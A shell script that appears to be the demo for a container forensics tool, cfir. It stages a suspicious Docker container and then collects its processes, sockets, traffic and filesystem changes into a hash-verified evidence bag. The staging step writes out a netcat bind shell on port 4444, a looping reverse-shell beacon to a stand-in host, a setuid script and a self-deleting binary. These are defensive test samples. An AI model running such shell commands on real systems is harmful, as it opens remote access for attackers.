#!/bin/sh
# make demo: a deliberately suspicious container, frozen through the
# Engine API, its engine metadata and logs taken into an evidence bag,
# and the bag verified (cfir's own verify, then coreutils alone).
set -eu
here=$(cd "$(dirname "$0")" && pwd)
. "$here/lib/engine.sh"
: "${CFIR:?}"

name=cfir-demo
bag=${DEMO_BAG:-$PWD/cfir-demo-bag}
docker rm -f "$name" >/dev/null 2>&1 || true
trap 'docker rm -f "$name" >/dev/null 2>&1' EXIT
rm -rf "$bag"

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "a suspicious container: SYS_ADMIN and NET_RAW added, the engine socket"
echo "   mounted, a shell listener on :4444 run from a copy of busybox that"
echo "   deleted itself from disk"
docker run -d --name "$name" --label cfir-demo=1 \
	--cap-add SYS_ADMIN --cap-add NET_RAW \
	-v /var/run/docker.sock:/var/run/docker.sock \
	"$TEST_IMAGE" sh -c '
		mkdir /tmp/.x; cp /bin/busybox /tmp/.x/busybox
		/tmp/.x/busybox nc -ll -p 4444 -e /bin/sh &
		printf "#!/bin/sh\nwhile :; do nc 203.0.113.7 443 -e /bin/sh; sleep 60; done\n" >/tmp/.x/beacon.sh
		chmod 4755 /tmp/.x/beacon.sh
		sleep 1; rm -f /tmp/.x/busybox
		echo "connecting to 203.0.113.7:443"; echo "stage 2 fetched" >&2
		while sleep 5; do :; done' >/dev/null
sleep 2

step "cfir pause $name"
"$CFIR" --format text pause -o "$bag" --case DEMO-1 --examiner "$(id -un)" "$name"

step "cfir inspect -o $bag $name"
"$CFIR" --format text inspect -o "$bag" "$name"

step "cfir ps -o $bag $name: the process tree from /proc, executables recovered"
"$CFIR" --format text ps -o "$bag" "$name"
echo "   recovered executables:"
jq -c '.executables[] | {sha256: .sha256[0:16], deleted, exe_paths, pids}' "$bag"/data/*/proc/processes.json | sed 's/^/   /'

step "cfir sockets -o $bag $name: like netstat -tunap, from the container's namespace"
"$CFIR" --format text sockets -o "$bag" "$name"

step "cfir capture -o $bag -d 3 $name: the traffic that still reaches it, frozen"
ip=$(docker inspect -f '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}' "$name")
(sleep 1; printf 'id\n' | timeout 1 socat - "TCP:$ip:4444" >/dev/null 2>&1 || true) &
"$CFIR" --format text capture -o "$bag" -d 3 "$name"
wait
echo "   read back with tshark:"
tshark -r "$bag"/data/*/net/eth0.pcap 2>/dev/null | head -8 | sed 's/^/   /'

step "cfir diff -o $bag $name: what changed in the writable layer"
"$CFIR" --format text diff -o "$bag" "$name"

step "cfir export -o $bag $name"
"$CFIR" --format text export -o "$bag" "$name"
echo "   what the index flags:"
jq -c 'select(.flags | length > 0) | {path, flags, magic}' "$bag"/data/*/export/rootfs.index.jsonl | sed 's/^/   /'

step "cfir copy -o $bag $name:/tmp"
"$CFIR" --format text copy -o "$bag" "$name:/tmp"

step "cfir verify $bag"
"$CFIR" --format text verify "$bag"

step "the same bag checked with coreutils alone"
(cd "$bag" && sha256sum -c manifest-sha256.txt && sha256sum -c tagmanifest-sha256.txt)

step "the custody log: one hash-chained record per action"
jq -c '{seq, action, status, artifacts: (.artifacts | length), prev: .prev[0:16]}' "$bag/custody/log.jsonl"

step "the container stays frozen for the next steps; cfir unpause $name thaws it"
"$CFIR" --format text unpause -o "$bag" "$name"
"$CFIR" --format text -q verify "$bag" && echo "bag still verifies after the unpause record"
printf '\nThe evidence bag is in %s\n' "$bag"
